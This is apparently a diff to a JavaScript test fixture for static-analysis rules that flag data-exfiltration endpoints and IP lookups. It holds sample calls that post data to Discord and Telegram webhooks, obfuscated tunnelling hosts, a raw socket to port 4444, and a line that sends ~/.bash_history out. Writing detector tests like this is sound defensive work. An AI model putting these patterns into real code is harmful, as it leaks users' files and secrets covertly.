@@ -68,4 +68,46 @@ function later(ws, req) {
   req.write(readFileSync(os.homedir() + '/.bash_history'));
 }
 
-module.exports = { cases, later };
+async function endpoints(data, axios, user) {
+  // ruleid: js.exfil.suspicious-endpoint
+  await fetch('https://discord.com/api/webhooks/123456/abcDEF', { method: 'POST', body: data });
+  // ruleid: js.exfil.suspicious-endpoint
+  https.get(atob('aHR0cHM6Ly94Lm9hc3QuZnVuL2M='));
+  const hook = ['https://webhook', 'site/0000-1111'].join('.');
+  // ruleid: js.exfil.suspicious-endpoint
+  await axios.post(hook, data);
+  // ruleid: js.exfil.suspicious-endpoint
+  const opts = { hostname: String.fromCharCode(120, 46, 110, 103, 114, 111, 107, 46, 105, 111), path: '/' };
+  // ruleid: js.exfil.suspicious-endpoint
+  require('net').connect(4444, '203.0.113.7');
+  // ruleid: js.exfil.suspicious-endpoint
+  await fetch('http://' + '198.51.100.23' + ':8080/up', { method: 'POST', body: data });
+  // ruleid: js.exfil.suspicious-endpoint
+  https.request('https://api.telegram.org/bot123:AAE/sendMessage');
+  // ok: js.exfil.suspicious-endpoint
+  await fetch('https://registry.npmjs.org/mytool/latest');
+  // ok: js.exfil.suspicious-endpoint
+  await fetch('http://127.0.0.1:8080/health');
+  // ok: js.exfil.suspicious-endpoint
+  const local = { host: '192.168.1.10', port: 80 };
+  // ok: js.exfil.suspicious-endpoint
+  await axios.post(user.webhookUrl, data);
+  // ok: js.exfil.suspicious-endpoint
+  await fetch('https://example.com/docs/discord-webhooks');
+
+  // ruleid: js.exfil.ip-lookup
+  const ip = await (await fetch('https://api.ipify.org?format=json')).json();
+  // ruleid: js.exfil.ip-lookup
+  https.get('https://ipinfo.io/json');
+  // ruleid: js.exfil.ip-lookup
+  await axios.get(Buffer.from('https://ifconfig.me', 'utf8').toString());
+  // ok: js.exfil.ip-lookup
+  await fetch('https://example.com/ip');
+  // ok: js.exfil.ip-lookup
+  https.get('https://registry.npmjs.org/ipify');
+  // ok: js.exfil.ip-lookup
+  await axios.get(user.ipService);
+  return [opts, local, ip];
+}
+
+module.exports = { cases, later, endpoints };
